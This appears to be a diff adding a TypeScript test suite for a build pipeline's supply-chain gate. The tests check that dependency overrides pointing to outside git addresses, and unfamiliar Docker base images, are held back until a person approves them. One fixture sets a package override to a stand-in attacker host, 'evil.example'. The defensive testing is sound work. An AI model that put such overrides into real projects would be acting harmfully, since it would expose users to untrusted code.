@@ -1,0 +1,100 @@
+/** A change that takes code from an unknown origin goes back before anything of it is installed, or a person approves it. */
+import type { Approval } from '../../../src/domain/findings';
+import type { Worked } from '../../../src/domain/build/outcomes';
+import type { FileChange } from '../../../src/ports/workspace';
+import { openBench } from '../on-activity';
+import type { Bench } from '../on-activity';
+
+const MANIFEST = '{ "type": "module", "scripts": { "test": "node --test" } }\n';
+const TEST =
+  "import assert from 'node:assert/strict';\nimport { test } from 'node:test';\n\ntest('one', () => assert.equal(1, 1));\n";
+const FROM_GIT = MANIFEST.replace('}', '}, "overrides": { "a": "git+https://evil.example/a.git" }');
+const CRITERION = { id: 'C1', requirement_ids: ['R1'], text: 'One.', tested_by: 'one', kind: 'new' };
+
+let bench: Bench;
+let installed = 0;
+beforeAll(async () => {
+  const criteria = [{ criterion_id: 'C1', tested_by: 'one', satisfied: true, note: '' }];
+  const output = { verdict: 'pass', objections: [], tests_added: [], tests_updated: [], test_command: [], criteria };
+  bench = await openBench(() => ({ output }));
+});
+afterAll(() => bench?.close());
+beforeEach(() => {
+  installed = 0;
+});
+
+async function judged(phase: 'testing' | 'verification', files: FileChange[], approvals: Approval[] = []) {
+  const { artifacts, workspace, checkouts } = bench.deps;
+  const put = async (value: unknown) => (await artifacts.put(JSON.stringify(value))).digest;
+  const buildId = `b${++builds}`;
+  const repo = { projectId: 'shop', buildId };
+  const empty = await workspace.prepare(repo);
+  const base = await workspace.apply(
+    { ...repo, ...empty },
+    [
+      { path: 'package.json', content: MANIFEST },
+      { path: 'test/one.test.js', content: TEST },
+    ],
+    'start',
+  );
+  const mark = { phase: 'implementation', generation: 1, attempt: 1, turn: 1 } as const;
+  const { commit: start } = await workspace.publish(
+    { ...repo, ...empty },
+    { tree: base.commit, message: 'start', mark },
+  );
+  const task = bench.task({
+    ...{ buildId, phase, base: start, commit: start, turn: 5, approvals },
+    request: await put({
+      user_id: 'ada',
+      project_id: 'shop',
+      build_id: buildId,
+      requirements: 'One',
+      commands: { test: ['node', '--test'] },
+    }),
+    outputs: {
+      discovery: await put({ requirements: [{ id: 'R1' }] }),
+      planning: await put({ success_criteria: [CRITERION], testing_strategy: 'a test' }),
+      implementation: await put({ summary: 'One.', files }),
+    },
+    sources: { discovery: 'claimed', planning: 'claimed', implementation: 'claimed' },
+  });
+  const counting: typeof checkouts = {
+    look: (...given) => checkouts.look(...given),
+    // The base may have been made ready to be looked at; the change must not.
+    with: (input, use) => {
+      if (input.at.commit !== input.base) installed += 1;
+      return checkouts.with(input, use);
+    },
+  };
+  const name = phase === 'testing' ? 'auditTests' : 'verify';
+  return (await bench.run(name, task, { checkouts: counting })) as Worked;
+}
+let builds = 0;
+
+test.each(['testing', 'verification'] as const)(
+  'where code comes from: overrides to a git address are held in %s, and nothing is installed or asked',
+  async (phase) => {
+    const asked = bench.requests.length;
+    const outcome = await judged(phase, [{ path: 'package.json', content: FROM_GIT }]);
+    expect(outcome.by).toBe('orchestrator');
+    expect(outcome.objections?.join('\n')).toContain('replaced: a comes from "git+https://evil.example/a.git"');
+    expect(outcome.findings?.found.map(({ gate, onApprove }) => [gate, onApprove])).toEqual([['origins', phase]]);
+    expect([installed, bench.requests.length - asked]).toEqual([0, 0]);
+  },
+);
+
+test('a person who approves exactly this lets it be installed', async () => {
+  const changed = [{ path: 'Dockerfile', content: 'FROM somebody/node:22\n' }];
+  const { findings } = await judged('testing', changed);
+  const [finding] = findings?.found ?? [];
+  const shown = JSON.parse((await bench.deps.artifacts.get(finding?.digest ?? '')).toString('utf8')) as {
+    path: string;
+    diff: string;
+  };
+  expect(shown).toMatchObject({ path: 'Dockerfile', diff: expect.stringContaining('+FROM somebody/node:22') });
+  const approval = { gate: 'origins', digest: finding?.digest ?? '', actor: 'ada', at: '' };
+  const outcome = await judged('testing', changed, [approval]);
+  expect(outcome.findings?.found).toEqual([]);
+  expect(outcome.findings?.judged).toContain('origins');
+  expect(installed).toBeGreaterThan(0);
+});
